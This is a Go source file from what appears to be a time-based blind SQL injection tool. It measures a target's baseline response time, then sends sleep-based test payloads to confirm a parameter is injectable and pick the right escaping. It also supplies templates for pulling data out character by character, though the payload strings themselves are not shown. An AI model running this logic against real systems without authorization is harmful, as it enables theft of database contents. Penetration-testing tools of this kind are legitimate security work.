package payload

import (
	"context"
	"log/slog"
	"sync"

	"github.com/0x6d61/sqldrip/internal/transport"
)

// DefaultThreshold multiplies the reference response time to obtain the
// sleep threshold when the caller does not choose one.
const DefaultThreshold = 2

// Prober issues timing probes against the target. *transport.Target
// implements it; tests substitute mocks.
type Prober interface {
	ResponseTime(ctx context.Context, req *transport.Request) (float64, error)
	ResponseTimes(ctx context.Context, requests []*transport.Request, maxInterval, maxThreads int) ([]float64, error)
}

// Builder selects and caches the payload templates used to exploit a
// parameter. The sleep threshold is measured once per session; the family
// choice is cached per parameter. After the first successful binding the
// cached fields are only read, so a bound Builder is safe to share across
// the engine's worker goroutines.
type Builder struct {
	target    Prober
	families  []Family
	threshold float64

	mu             sync.Mutex
	refRespTimeMS  float64
	sleepTimeMS    float64
	timingMeasured bool
	boundParam     string
	family         *Family
}

// NewBuilder creates a builder probing the given target. The threshold
// must be greater than 1.
func NewBuilder(target Prober, threshold float64) (*Builder, error) {
	if threshold <= 1 {
		return nil, ErrInvalidThreshold
	}
	return &Builder{
		target:    target,
		families:  DefaultFamilies(),
		threshold: threshold,
	}, nil
}

// SetThreshold replaces the threshold. It must be greater than 1 and is
// rejected before any network call otherwise.
func (b *Builder) SetThreshold(threshold float64) error {
	if threshold <= 1 {
		return ErrInvalidThreshold
	}
	b.mu.Lock()
	b.threshold = threshold
	b.mu.Unlock()
	return nil
}

// Threshold returns the current threshold.
func (b *Builder) Threshold() float64 {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.threshold
}

// ReferenceRespTime returns the target's baseline latency in ms, measuring
// it with defaultRequest on the first call and caching it afterwards.
func (b *Builder) ReferenceRespTime(ctx context.Context, defaultRequest *transport.Request) (float64, error) {
	if err := b.buildSleepTime(ctx, defaultRequest); err != nil {
		return 0, err
	}
	return b.refRespTimeMS, nil
}

// SleepTime returns the oracle discriminator in ms: any observed response
// time at or above it is taken as "condition held". It is the reference
// response time multiplied by the threshold, measured exactly once.
func (b *Builder) SleepTime(ctx context.Context, defaultRequest *transport.Request) (float64, error) {
	if err := b.buildSleepTime(ctx, defaultRequest); err != nil {
		return 0, err
	}
	return b.sleepTimeMS, nil
}

// buildSleepTime measures the reference response time and derives the
// sleep time, once.
func (b *Builder) buildSleepTime(ctx context.Context, defaultRequest *transport.Request) error {
	b.mu.Lock()
	defer b.mu.Unlock()

	if !b.timingMeasured {
		ref, err := b.target.ResponseTime(ctx, defaultRequest)
		if err != nil {
			return err
		}
		b.refRespTimeMS = ref
		b.sleepTimeMS = ref * b.threshold
		b.timingMeasured = true
	}
	slog.Debug("oracle timing", "reference_ms", b.refRespTimeMS, "sleep_ms", b.sleepTimeMS)
	return nil
}

// TestPayload returns the template used to test param for the
// vulnerability. The first call for a new parameter runs family selection;
// repeated calls with the same parameter hit the cache.
func (b *Builder) TestPayload(ctx context.Context, defaultRequest *transport.Request, param string, maxInterval, maxThreads int) (string, error) {
	f, err := b.bind(ctx, defaultRequest, param, maxInterval, maxThreads)
	if err != nil {
		return "", err
	}
	return f.Test, nil
}

// FetchCharPayload returns the fetch-char template of the family bound to
// param, running family selection if needed.
func (b *Builder) FetchCharPayload(ctx context.Context, defaultRequest *transport.Request, param string, maxInterval, maxThreads int) (string, error) {
	f, err := b.bind(ctx, defaultRequest, param, maxInterval, maxThreads)
	if err != nil {
		return "", err
	}
	return f.FetchChar, nil
}

// FetchRowLengthPayload returns the fetch-row-length template of the
// family bound to param, running family selection if needed.
func (b *Builder) FetchRowLengthPayload(ctx context.Context, defaultRequest *transport.Request, param string, maxInterval, maxThreads int) (string, error) {
	f, err := b.bind(ctx, defaultRequest, param, maxInterval, maxThreads)
	if err != nil {
		return "", err
	}
	return f.FetchRowLength, nil
}

// bind runs family selection for param, unless the same parameter is
// already bound. Each family's test template is instantiated with the
// sleep time and substituted into a copy of the default request; all
// probes go out through the batch API. The lowest-indexed family whose
// measured response time meets the sleep threshold wins. The families
// differ by the escaping context needed to break out of the surrounding
// literal, so the probe both confirms exploitability and picks the
// correct escape.
func (b *Builder) bind(ctx context.Context, defaultRequest *transport.Request, param string, maxInterval, maxThreads int) (*Family, error) {
	b.mu.Lock()
	if b.family != nil && b.boundParam == param {
		f := b.family
		b.mu.Unlock()
		return f, nil
	}
	b.mu.Unlock()

	sleepMS, err := b.SleepTime(ctx, defaultRequest)
	if err != nil {
		return nil, err
	}
	sleepSeconds := FormatSleepTime(sleepMS / 1000)

	requests := make([]*transport.Request, 0, len(b.families))
	for _, f := range b.families {
		req := defaultRequest.Clone()
		params := req.Params()
		params[param] = Render(f.Test, PlaceholderSleepTime, sleepSeconds)
		requests = append(requests, req.SetParams(params))
	}

	times, err := b.target.ResponseTimes(ctx, requests, maxInterval, maxThreads)
	if err != nil {
		return nil, err
	}
	slog.Debug("family selection response times", "param", param, "times_ms", times)

	for i, t := range times {
		if t >= sleepMS {
			slog.Debug("parameter seems vulnerable", "param", param, "family", i, "payload", b.families[i].Test)
			b.mu.Lock()
			b.boundParam = param
			b.family = &b.families[i]
			f := b.family
			b.mu.Unlock()
			return f, nil
		}
	}

	return nil, &UnexploitableParameterError{Param: param}
}
